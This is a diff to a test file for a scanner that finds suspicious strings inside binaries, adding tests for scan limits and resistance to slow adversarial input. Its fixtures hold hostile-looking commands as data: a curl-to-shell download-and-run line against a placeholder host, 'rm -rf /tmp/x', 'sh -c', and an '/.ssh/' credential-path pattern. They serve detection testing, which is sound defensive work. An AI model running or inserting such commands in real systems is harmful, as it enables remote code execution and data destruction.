@@ -1,5 +1,13 @@
 import { describe, expect, it } from 'vitest';
-import { binaryEvidence, excerpt, MAX_DISTINCT, MAX_EXAMPLE_CHARS, MAX_EXAMPLES, type BinaryStringKind } from '../../../src/analysis/binary/evidence.js';
+import {
+  binaryEvidence,
+  EVIDENCE_LIMITS,
+  excerpt,
+  MAX_DISTINCT,
+  MAX_EXAMPLE_CHARS,
+  MAX_EXAMPLES,
+  type BinaryStringKind,
+} from '../../../src/analysis/binary/evidence.js';
 import { declaredHosts } from '../../../src/analysis/hosts.js';
 import { withStrings, type EmbeddedString } from '../../../scripts/lib/native-headers.js';
 
@@ -116,8 +124,30 @@ describe('binaryEvidence', () => {
   });
 });
 
+describe('limits', () => {
+  const strings = ['plain string', '/bin/sh -c one', 'another plain one', 'rm -rf /tmp/x', 'curl -s https://get.acme.example/i | sh'];
+
+  it('counts strings seen and strings looked at closely, and stops at either limit', () => {
+    const bytes = withStrings(HEADER, strings);
+    expect(binaryEvidence(bytes, context)).toMatchObject({ strings: 5, detailed: 3, stoppedBy: null });
+    const seen = binaryEvidence(bytes, context, { ...EVIDENCE_LIMITS, maxStrings: 3 });
+    expect(seen).toMatchObject({ strings: 3, stoppedBy: 'strings' });
+    expect(seen.found.get('command')?.values).toEqual(['sh -c']);
+    const detailed = binaryEvidence(bytes, context, { ...EVIDENCE_LIMITS, maxDetailed: 2 });
+    expect(detailed).toMatchObject({ strings: 4, detailed: 2, stoppedBy: 'detailed' });
+    expect(detailed.found.get('download-and-run')).toBeUndefined();
+    expect(binaryEvidence(bytes, context, { ...EVIDENCE_LIMITS, maxBytes: 20 })).toMatchObject({ stoppedBy: 'bytes', scan: { scannedBytes: 20 } });
+  });
+
+  it('stops counting hosts, and parsing URLs, at MAX_DISTINCT', () => {
+    const hosts = Array.from({ length: MAX_DISTINCT + 5 }, (_, index) => `https://h${index}.acme-metrics.net/`);
+    const evidence = binaryEvidence(withStrings(HEADER, [...hosts, 'https://late.acme-metrics.net/']), context).found.get('host')!;
+    expect(evidence.values).not.toContain('late.acme-metrics.net');
+  });
+});
+
 describe('hostile input', () => {
-  // Each case packs one anchor as densely as possible into one 4 MB string; a check that backtracks
+  // Each case packs one anchor as densely as possible into two 2 MB strings; a check that backtracks
   // or rescans would take minutes, a linear one well under a second.
   it.each([
     ['downloaders far from a pipe', `curl ${'x'.repeat(240)} `],
@@ -133,8 +163,10 @@ describe('hostile input', () => {
     ['URLs', 'http://a'],
     ['cmd flags', 'cmd /a /b /d /e /f /g /h '],
     ['paths', '/.ssh/'],
+    ['tiny strings worth a look', 'curl x|\0'],
+    ['tiny plain strings', 'aaaaaa\0'],
   ])('%s', (_, unit) => {
-    const text = unit.repeat(Math.ceil((4 * 1024 * 1024) / unit.length));
+    const text = unit.repeat(Math.ceil((2 * 1024 * 1024) / unit.length));
     const bytes = withStrings(HEADER, [text, `${text}|`]);
     const started = performance.now();
     binaryEvidence(bytes, context);
